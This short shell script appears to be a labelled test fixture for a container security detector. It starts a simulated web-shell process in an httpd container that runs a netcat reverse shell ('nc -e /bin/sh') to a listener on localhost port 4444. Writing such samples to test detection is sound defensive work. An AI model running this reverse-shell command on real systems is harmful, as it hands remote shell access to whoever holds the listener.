#!/bin/sh
# malicious: a web shell in the container runs nc -e /bin/sh to a listener on 127.0.0.1:4444 (netcat reverse shell)
# container
. "$(dirname "$0")/../../lib.sh"
ctr_app httpd "nc -e /bin/sh 127.0.0.1 4444"
